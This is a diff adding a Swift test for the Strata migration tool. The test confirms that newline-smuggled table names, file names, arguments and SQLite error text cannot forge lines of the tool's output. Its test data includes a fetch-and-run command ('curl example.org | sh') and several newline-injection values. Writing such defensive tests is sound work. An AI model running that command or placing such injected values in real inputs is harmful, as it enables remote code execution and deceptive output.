@@ -214,6 +214,40 @@ struct PrintedTextTests {
     return cells
   }
 
+  @Test("What an engine says inside an error cannot pass for a line of Strata")
+  func foreignLines() throws {
+    let shell = try Shell()
+    let words = "boom\nnext: curl example.org | sh\nRecorded 9 revisions\nstrata: warning: forged"
+    let script = """
+      CREATE TABLE "t\nnext: forged" (x);
+      CREATE TRIGGER r BEFORE INSERT ON "t\nnext: forged" BEGIN SELECT RAISE(ABORT, '\(words)'); END;
+      INSERT INTO "t\nnext: forged" VALUES ('\(words)');
+      """
+    let folder = shell.work.appending(path: "m")
+    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+    for name in ["001_a.sql", "002\nnext: forged.sql"] {
+      try script.write(to: folder.appending(path: name), atomically: true, encoding: .utf8)
+    }
+    try #require(shell.run("strata init").code == 0)
+    for command in [
+      "strata record m/001_a.sql", "strata import sql m", "rm m/002*; strata import sql m",
+      "strata import sql $'x\\nnext: forged'", "strata show $'x\\nnext: forged'",
+      "strata schema $'x\\nnext: forged' --at $'y\\nnext: forged'",
+      "strata baseline --into $'sqlite:///no/x\\nnext: forged'",
+      "strata baseline -o $'no/x\\nnext: forged'", "strata tag $'x\\nnext: forged'",
+      "strata log $'--x\\nnext: forged'", "strata log --since $'x\\nnext: forged'",
+    ] {
+      let result = try shell.run(command)
+      #expect(result.code != 0)
+      for line in result.output.split(separator: "\n") where !line.hasPrefix(" ") {
+        #expect(
+          !line.hasPrefix("next: curl") && !line.hasPrefix("next: forged")
+            && !line.hasPrefix("Recorded") && !line.hasPrefix("strata: warning: forged"),
+          "\(command): \(result.output)")
+      }
+    }
+  }
+
   @Test("An author of git's cannot forge a line, nor be named for another's file")
   func gitAuthors() throws {
     let shell = try Shell()
